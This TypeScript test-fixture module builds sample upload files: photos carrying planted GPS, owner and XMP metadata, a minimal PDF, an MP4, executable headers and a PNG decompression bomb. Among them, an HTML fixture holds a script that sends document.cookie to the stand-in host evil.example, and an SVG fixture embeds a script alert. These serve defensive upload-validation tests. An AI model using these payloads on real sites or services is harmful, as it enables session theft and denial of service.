import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';

/**
 * Real files for the tests, made here: images by sharp, the rest byte by byte, so
 * nothing binary lives in the repository and each file says what it is.
 */

/** Recognisable values planted in metadata, to prove they are gone after inspection. */
export const PLANTED = { gpsDatum: 'WGS-84-PATI', owner: 'Pemilik Kamera Rahasia', xmpCreator: 'Pelapor Rahasia' };

const XMP = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="${PLANTED.xmpCreator}"/></rdf:RDF></x:xmpmeta>`;

/**
 * A landscape photo (width x height) whose EXIF says "rotate 90° clockwise" (6), with a
 * GPS position, an owner and XMP: what a phone camera writes.
 */
export async function photo(format: 'jpeg' | 'png' | 'webp', width = 200, height = 100): Promise<Buffer> {
  const image = sharp({ create: { width, height, channels: 3, background: '#b03a2e' } });
  return image[format]()
    .withExif({
      IFD0: { Make: 'TestCam', Copyright: PLANTED.owner },
      IFD3: { GPSMapDatum: PLANTED.gpsDatum, GPSLatitudeRef: 'S', GPSLatitude: '6/1 45/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '111/1 2/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .withXmp(XMP)
    .toBuffer();
}

/** Random pixels compress badly: a JPEG of realistic size for its dimensions. */
export async function noisyJpeg(width: number, height: number, quality = 90): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#777', noise: { type: 'gaussian', mean: 128, sigma: 60 } } })
    .jpeg({ quality })
    .toBuffer();
}

export async function gif(): Promise<Buffer> {
  return sharp({ create: { width: 10, height: 10, channels: 3, background: '#00f' } }).gif().toBuffer();
}

export function pdf(): Buffer {
  return Buffer.from(
    [
      '%PDF-1.4',
      '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
      '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
      'trailer << /Root 1 0 R >>',
      '%%EOF',
      '',
    ].join('\n'),
  );
}

/** An ISO base media file: an `ftyp` box (major brand isom, compatible mp42) and an empty `mdat`. */
export function mp4(): Buffer {
  const ftyp = Buffer.alloc(24);
  ftyp.writeUInt32BE(24, 0);
  ftyp.write('ftyp', 4, 'latin1');
  ftyp.write('isom', 8, 'latin1');
  ftyp.writeUInt32BE(0x200, 12);
  ftyp.write('isommp42', 16, 'latin1');
  const mdat = Buffer.alloc(8);
  mdat.writeUInt32BE(8, 0);
  mdat.write('mdat', 4, 'latin1');
  return Buffer.concat([ftyp, mdat]);
}

export const html = () => Buffer.from('<!DOCTYPE html><html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>');

export const svg = () =>
  Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');

/** The first bytes of a Linux executable: ELF magic, 64-bit, little-endian, x86-64. */
export function elf(): Buffer {
  const b = Buffer.alloc(128);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b);
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  return b;
}

/** A Windows executable: MZ header pointing at a PE signature. */
export function windowsExe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x14c, 0x84); // i386
  return b;
}

/**
 * A decompression bomb: a valid PNG whose header claims width x height pixels of 8-bit
 * grey, with only the first rows of data. A few hundred bytes on disk; width x height
 * bytes if decoded.
 */
export function pngBomb(width = 50_000, height = 50_000): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body) >>> 0);
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const rows = zlib.deflateSync(Buffer.alloc((width + 1) * 4));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Writes bytes where multer would have: a temp file with a random-looking name. */
export function asUpload(dir: string, bytes: Buffer, originalname: string): { path: string; originalname: string } {
  const tmp = path.join(dir, '.tmp');
  fs.mkdirSync(tmp, { recursive: true });
  const file = path.join(tmp, `${Math.random().toString(16).slice(2)}${Date.now().toString(16)}`);
  fs.writeFileSync(file, bytes);
  return { path: file, originalname };
}
